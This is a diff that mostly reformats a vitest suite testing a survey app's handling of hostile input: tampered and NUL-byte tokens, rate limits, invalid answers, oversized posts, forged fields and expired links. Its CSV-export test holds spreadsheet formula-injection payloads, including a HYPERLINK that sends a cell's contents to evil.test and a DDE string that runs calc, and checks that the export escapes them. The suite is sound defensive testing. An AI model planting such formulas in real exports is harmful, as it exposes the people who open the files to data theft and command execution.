@@ -6,14 +6,26 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
 import { formatDate } from '../../src/lib/i18n/survey';
-import { BASE_URL, DAY, HOUR, addApiKey, api, createTestApp, interaction, manualClock, type TestApp } from '../helpers/app';
+import {
+  BASE_URL,
+  DAY,
+  HOUR,
+  addApiKey,
+  api,
+  createTestApp,
+  interaction,
+  manualClock,
+  type TestApp,
+} from '../helpers/app';
 import { dataState } from './data-state';
 
 const START = '2026-11-20T12:00:00Z';
 
 /** A request as it arrives from `address` (the app reads the socket's remote address). */
 function from(t: TestApp, address: string, path: string, init: RequestInit = {}): Promise<Response> {
-  return Promise.resolve(t.app.request(`${BASE_URL}${path}`, init, { incoming: { socket: { remoteAddress: address } } }));
+  return Promise.resolve(
+    t.app.request(`${BASE_URL}${path}`, init, { incoming: { socket: { remoteAddress: address } } }),
+  );
 }
 
 const form = (fields: Record<string, string>) => ({
@@ -35,9 +47,15 @@ describe('hostile input: survey and unsubscribe links', () => {
     const item = interaction({ occurredAt: new Date(clock.nowMs() - HOUR).toISOString() });
     const res = await api(t, key, 'POST', '/interactions', item);
     expect(res.status).toBe(201);
-    const mail = await t.db.readClient.execute({ sql: "SELECT text_body FROM outbox WHERE to_address = ? AND kind = 'invitation'", args: [item.customer.email] });
+    const mail = await t.db.readClient.execute({
+      sql: "SELECT text_body FROM outbox WHERE to_address = ? AND kind = 'invitation'",
+      args: [item.customer.email],
+    });
     const text = String(mail.rows[0]!.text_body);
-    const invitation = await t.db.readClient.execute({ sql: 'SELECT id FROM invitations WHERE interaction_id = ?', args: [res.json[0].id] });
+    const invitation = await t.db.readClient.execute({
+      sql: 'SELECT id FROM invitations WHERE interaction_id = ?',
+      args: [res.json[0].id],
+    });
     return {
       interactionId: Number(res.json[0].id),
       invitationId: Number(invitation.rows[0]!.id),
@@ -48,14 +66,18 @@ describe('hostile input: survey and unsubscribe links', () => {
     };
   }
   const responsesOf = async (invitationId: number) =>
-    (await t.db.readClient.execute({ sql: 'SELECT * FROM responses WHERE invitation_id = ?', args: [invitationId] })).rows.map((r) => ({ ...r }));
+    (
+      await t.db.readClient.execute({ sql: 'SELECT * FROM responses WHERE invitation_id = ?', args: [invitationId] })
+    ).rows.map((r) => ({ ...r }));
 
   let notFoundBody: string;
 
   beforeAll(async () => {
     t = await createTestApp({}, clock);
     key = (await addApiKey(t, 'all')).key;
-    expect((await api(t, key, 'POST', '/reps', [{ email: 'ana@acme.test', name: 'Ana Ruiz', team: 'Iberia' }])).status).toBe(200);
+    expect(
+      (await api(t, key, 'POST', '/reps', [{ email: 'ana@acme.test', name: 'Ana Ruiz', team: 'Iberia' }])).status,
+    ).toBe(200);
     // The reference "not found" page: a well-formed token that matches nothing.
     const reference = await from(t, '192.0.2.1', `/s/${'Q'.repeat(43)}`);
     expect(reference.status).toBe(404);
@@ -78,7 +100,10 @@ describe('hostile input: survey and unsubscribe links', () => {
     expect(rows).toHaveLength(1);
     expect(rows[0]).toMatchObject({ status: 'submitted' });
     // The winner's answers, whole: never a mix of the two tabs.
-    const winner = a.status === 303 ? { resolved_first_contact: 1, content_useful: 5 } : { resolved_first_contact: 0, content_useful: 1 };
+    const winner =
+      a.status === 303
+        ? { resolved_first_contact: 1, content_useful: 5 }
+        : { resolved_first_contact: 0, content_useful: 1 };
     expect(rows[0]).toMatchObject(winner);
     // A third tab later changes nothing.
     const before = await dataState(t);
@@ -107,7 +132,12 @@ describe('hostile input: survey and unsubscribe links', () => {
     const get = await from(t, nextAddress(), `/s/${tampered}`);
     expect(get.status).toBe(404);
     expect(await get.text()).toBe(notFoundBody);
-    const post = await from(t, nextAddress(), `/s/${tampered}`, form({ resolved_first_contact: 'yes', action: 'submit' }));
+    const post = await from(
+      t,
+      nextAddress(),
+      `/s/${tampered}`,
+      form({ resolved_first_contact: 'yes', action: 'submit' }),
+    );
     expect(post.status).toBe(404);
     expect(await post.text()).toBe(notFoundBody);
     expect(await dataState(t)).toEqual(before);
@@ -130,7 +160,14 @@ describe('hostile input: survey and unsubscribe links', () => {
   it('NUL bytes and %00 in a token get the same 404 page, nothing written', async () => {
     const link = await invite();
     const before = await dataState(t);
-    const tokens = [`${link.token}%00`, `${link.token.slice(0, 42)}%00`, `${link.token.slice(0, 20)}%00${link.token.slice(20)}`, '%00', `${link.token.slice(0, 20)}\u0000${link.token.slice(20)}`, `%00${link.token}`];
+    const tokens = [
+      `${link.token}%00`,
+      `${link.token.slice(0, 42)}%00`,
+      `${link.token.slice(0, 20)}%00${link.token.slice(20)}`,
+      '%00',
+      `${link.token.slice(0, 20)}\u0000${link.token.slice(20)}`,
+      `%00${link.token}`,
+    ];
     for (const token of tokens) {
       for (const init of [{}, form({ resolved_first_contact: 'yes', action: 'submit' })]) {
         const res = await from(t, nextAddress(), `/s/${token}`, init);
@@ -156,7 +193,12 @@ describe('hostile input: survey and unsubscribe links', () => {
       const res = await from(t, nextAddress(), `/s/${token}`);
       expect(res.status, token).toBe(404);
       expect(await res.text(), token).toBe(notFoundBody);
-      const post = await from(t, nextAddress(), `/s/${token}`, form({ resolved_first_contact: 'no', action: 'submit' }));
+      const post = await from(
+        t,
+        nextAddress(),
+        `/s/${token}`,
+        form({ resolved_first_contact: 'no', action: 'submit' }),
+      );
       expect(post.status, token).toBe(404);
       expect(await post.text(), token).toBe(notFoundBody);
     }
@@ -170,7 +212,10 @@ describe('hostile input: survey and unsubscribe links', () => {
     const statuses: number[] = [];
     let retryAfter: string | null = null;
     for (let i = 0; i < 1000; i++) {
-      const token = Buffer.from(`${i}-${Math.random()}-${Math.random()}`).toString('base64url').padEnd(43, 'x').slice(0, 43);
+      const token = Buffer.from(`${i}-${Math.random()}-${Math.random()}`)
+        .toString('base64url')
+        .padEnd(43, 'x')
+        .slice(0, 43);
       const res = await from(t, address, i % 2 ? `/s/${token}` : `/u/${token}`);
       statuses.push(res.status);
       if (res.status === 429) retryAfter ??= res.headers.get('retry-after');
@@ -189,7 +234,9 @@ describe('hostile input: survey and unsubscribe links', () => {
     expect(saved.status).toBe(200);
     const submitted = await from(t, address, link.survey, form({ action: 'submit' }));
     expect(submitted.status).toBe(303);
-    expect(await responsesOf(link.invitationId)).toEqual([expect.objectContaining({ status: 'submitted', content_useful: 4 })]);
+    expect(await responsesOf(link.invitationId)).toEqual([
+      expect.objectContaining({ status: 'submitted', content_useful: 4 }),
+    ]);
     // A POST with a random token from that address is refused the same way.
     const post = await from(t, address, `/s/${'Z'.repeat(43)}`, form({ resolved_first_contact: 'yes' }));
     expect(post.status).toBe(429);
@@ -202,7 +249,12 @@ describe('hostile input: survey and unsubscribe links', () => {
     for (let i = 0; i < 200; i++) {
       const link = links[i % links.length]!;
       // GETs of survey and unsubscribe links, and answers saved (an unsubscribe post would close the survey).
-      const res = await from(t, address, i % 3 === 0 ? link.unsubscribe : link.survey, i % 3 !== 0 && i % 5 === 0 ? form({ decision_clearer: String((i % 5) + 1) }) : {});
+      const res = await from(
+        t,
+        address,
+        i % 3 === 0 ? link.unsubscribe : link.survey,
+        i % 3 !== 0 && i % 5 === 0 ? form({ decision_clearer: String((i % 5) + 1) }) : {},
+      );
       expect(res.status).toBe(200);
       await res.body?.cancel();
     }
@@ -241,7 +293,10 @@ describe('hostile input: survey and unsubscribe links', () => {
       expect(await get.text()).toContain('method="post"');
     }
     expect(await dataState(t)).toEqual(before);
-    const customer = await t.db.readClient.execute({ sql: 'SELECT opted_out_at FROM customers WHERE email = ?', args: [link.email] });
+    const customer = await t.db.readClient.execute({
+      sql: 'SELECT opted_out_at FROM customers WHERE email = ?',
+      args: [link.email],
+    });
     expect(customer.rows[0]!.opted_out_at).toBeNull();
     expect((await from(t, address, link.survey)).status).toBe(200); // the survey is still open
   });
@@ -249,7 +304,12 @@ describe('hostile input: survey and unsubscribe links', () => {
   it('reopening a half-answered survey shows the saved answers', async () => {
     const link = await invite();
     const address = nextAddress();
-    const saved = await from(t, address, link.survey, form({ resolved_first_contact: 'no', content_useful: '2', comment: 'Half way — más tarde <b>bold</b>' }));
+    const saved = await from(
+      t,
+      address,
+      link.survey,
+      form({ resolved_first_contact: 'no', content_useful: '2', comment: 'Half way — más tarde <b>bold</b>' }),
+    );
     expect(saved.status).toBe(200);
     expect(await saved.text()).toContain('data-outcome="saved"');
     const before = await dataState(t);
@@ -261,7 +321,15 @@ describe('hostile input: survey and unsubscribe links', () => {
     expect(html).toMatch(/name="content_useful" value="2" checked/);
     expect(html).toContain('Half way — más tarde &lt;b&gt;bold&lt;/b&gt;</textarea>');
     expect(await dataState(t)).toEqual(before);
-    expect(await responsesOf(link.invitationId)).toEqual([expect.objectContaining({ status: 'partial', resolved_first_contact: 0, content_useful: 2, decision_clearer: null, submitted_at: null })]);
+    expect(await responsesOf(link.invitationId)).toEqual([
+      expect.objectContaining({
+        status: 'partial',
+        resolved_first_contact: 0,
+        content_useful: 2,
+        decision_clearer: null,
+        submitted_at: null,
+      }),
+    ]);
   });
 
   for (const value of ['7', '0', '-1', '1.5', '5 ', '٣', '1e0', '05']) {
@@ -270,12 +338,24 @@ describe('hostile input: survey and unsubscribe links', () => {
       const address = nextAddress();
       expect((await from(t, address, link.survey, form({ decision_clearer: '3' }))).status).toBe(200);
       const before = await dataState(t);
-      const res = await from(t, address, link.survey, form({ resolved_first_contact: 'yes', content_useful: value, action: 'submit' }));
+      const res = await from(
+        t,
+        address,
+        link.survey,
+        form({ resolved_first_contact: 'yes', content_useful: value, action: 'submit' }),
+      );
       expect(res.status).toBe(422);
       const html = await res.text();
       expect(html).toMatch(/name="resolved_first_contact" value="yes" checked/); // shown as typed, not saved
       expect(await dataState(t)).toEqual(before);
-      expect(await responsesOf(link.invitationId)).toEqual([expect.objectContaining({ status: 'partial', resolved_first_contact: null, content_useful: null, decision_clearer: 3 })]);
+      expect(await responsesOf(link.invitationId)).toEqual([
+        expect.objectContaining({
+          status: 'partial',
+          resolved_first_contact: null,
+          content_useful: null,
+          decision_clearer: 3,
+        }),
+      ]);
     });
   }
 
@@ -288,7 +368,12 @@ describe('hostile input: survey and unsubscribe links', () => {
     it(`an unknown answer (${name}=${value}) → 422, nothing saved`, async () => {
       const link = await invite();
       const before = await dataState(t);
-      const res = await from(t, nextAddress(), link.survey, form({ [name]: value, decision_clearer: '4', action: 'submit' }));
+      const res = await from(
+        t,
+        nextAddress(),
+        link.survey,
+        form({ [name]: value, decision_clearer: '4', action: 'submit' }),
+      );
       expect(res.status).toBe(422);
       await res.text();
       expect(await dataState(t)).toEqual(before);
@@ -299,7 +384,10 @@ describe('hostile input: survey and unsubscribe links', () => {
   it('an unknown answer through htmx autosave → 422 fragment, nothing saved', async () => {
     const link = await invite();
     const before = await dataState(t);
-    const res = await from(t, nextAddress(), link.survey, { ...form({ resolved_first_contact: 'maybe' }), headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'HX-Request': 'true' } });
+    const res = await from(t, nextAddress(), link.survey, {
+      ...form({ resolved_first_contact: 'maybe' }),
+      headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'HX-Request': 'true' },
+    });
     expect(res.status).toBe(422);
     expect(await res.text()).not.toContain('<html');
     expect(await dataState(t)).toEqual(before);
@@ -322,7 +410,12 @@ describe('hostile input: survey and unsubscribe links', () => {
   it('a post over the 256 KB body limit (a 300 KB comment) → 413, nothing saved', async () => {
     const link = await invite();
     const before = await dataState(t);
-    const res = await from(t, nextAddress(), link.survey, form({ content_useful: '4', comment: 'x'.repeat(300 * 1024), action: 'submit' }));
+    const res = await from(
+      t,
+      nextAddress(),
+      link.survey,
+      form({ content_useful: '4', comment: 'x'.repeat(300 * 1024), action: 'submit' }),
+    );
     expect(res.status).toBe(413);
     await res.text();
     expect(await dataState(t)).toEqual(before);
@@ -353,23 +446,37 @@ describe('hostile input: survey and unsubscribe links', () => {
   });
 
   it('formulas in comments (= + - @, tab) are exported with a leading apostrophe, never as live formulas', async () => {
-    const formulas = ['=HYPERLINK("http://evil.test/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1'];
+    const formulas = [
+      '=HYPERLINK("http://evil.test/?"&A1,"click")',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1+1',
+    ];
     for (const comment of formulas) {
       const link = await invite();
       expect((await from(t, nextAddress(), link.survey, form({ comment, action: 'submit' }))).status).toBe(303);
     }
-    const res = await t.request('/api/v1/responses.csv?from=2026-01-01T00:00:00Z&to=2027-01-01T00:00:00Z', { headers: { Authorization: `Bearer ${key}` } });
+    const res = await t.request('/api/v1/responses.csv?from=2026-01-01T00:00:00Z&to=2027-01-01T00:00:00Z', {
+      headers: { Authorization: `Bearer ${key}` },
+    });
     expect(res.status).toBe(200);
     const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
     const comments = rows.map((r) => r.comment ?? '');
     for (const comment of formulas) expect(comments).toContain(`'${comment}`);
-    for (const row of rows) for (const [column, cell] of Object.entries(row)) expect(cell, column).not.toMatch(/^[=+@\t\r]|^-[^0-9]/);
+    for (const row of rows)
+      for (const [column, cell] of Object.entries(row)) expect(cell, column).not.toMatch(/^[=+@\t\r]|^-[^0-9]/);
   });
 
   it('unknown form fields (status, rep_id, invitation_id, submitted_at) cannot forge a submission or touch another row', async () => {
     const link = await invite();
     const before = await dataState(t);
-    const res = await from(t, nextAddress(), link.survey, form({ status: 'submitted', rep_id: '999', invitation_id: '1', submitted_at: '0' }));
+    const res = await from(
+      t,
+      nextAddress(),
+      link.survey,
+      form({ status: 'submitted', rep_id: '999', invitation_id: '1', submitted_at: '0' }),
+    );
     expect(res.status).toBe(200);
     const rows = await responsesOf(link.invitationId);
     // Unknown fields are ignored: at most an empty partial, never a submission or another rep's row.
@@ -383,7 +490,12 @@ describe('hostile input: survey and unsubscribe links', () => {
     const link = await invite();
     const before = await dataState(t);
     const unsubToken = link.unsubscribe.slice(3);
-    const asSurvey = await from(t, nextAddress(), `/s/${unsubToken}`, form({ resolved_first_contact: 'yes', action: 'submit' }));
+    const asSurvey = await from(
+      t,
+      nextAddress(),
+      `/s/${unsubToken}`,
+      form({ resolved_first_contact: 'yes', action: 'submit' }),
+    );
     expect(asSurvey.status).toBe(404);
     expect(await asSurvey.text()).toBe(notFoundBody);
     const asUnsub = await from(t, nextAddress(), `/u/${link.token}`, form({ 'List-Unsubscribe': 'One-Click' }));
@@ -397,18 +509,31 @@ describe('hostile input: survey and unsubscribe links', () => {
     expect((await from(t, address, link.survey, form({ content_useful: '3' }))).status).toBe(200);
     clock.advance(20 * DAY);
     const before = await dataState(t);
-    const post = await from(t, address, link.survey, form({ resolved_first_contact: 'yes', content_useful: '5', action: 'submit' }));
+    const post = await from(
+      t,
+      address,
+      link.survey,
+      form({ resolved_first_contact: 'yes', content_useful: '5', action: 'submit' }),
+    );
     expect(post.status).toBe(410);
     const html = await post.text();
     expect(html).toContain('data-outcome="expired"');
-    const expiresAt = Number((await t.db.readClient.execute(`SELECT expires_at FROM invitations WHERE id = ${link.invitationId}`)).rows[0]!.expires_at);
+    const expiresAt = Number(
+      (await t.db.readClient.execute(`SELECT expires_at FROM invitations WHERE id = ${link.invitationId}`)).rows[0]!
+        .expires_at,
+    );
     expect(html).toContain(`caducó el ${formatDate(expiresAt, 'es')}`); // the customer's language (es)
     const get = await from(t, address, link.survey);
     expect(get.status).toBe(410);
-    const htmx = await from(t, address, link.survey, { ...form({ content_useful: '5' }), headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'HX-Request': 'true' } });
+    const htmx = await from(t, address, link.survey, {
+      ...form({ content_useful: '5' }),
+      headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'HX-Request': 'true' },
+    });
     expect(htmx.status).toBe(410);
     expect(await dataState(t)).toEqual(before);
-    expect(await responsesOf(link.invitationId)).toEqual([expect.objectContaining({ status: 'partial', content_useful: 3, resolved_first_contact: null })]);
+    expect(await responsesOf(link.invitationId)).toEqual([
+      expect.objectContaining({ status: 'partial', content_useful: 3, resolved_first_contact: null }),
+    ]);
     expect((await from(t, address, link.unsubscribe)).status).toBe(200);
   });
 });
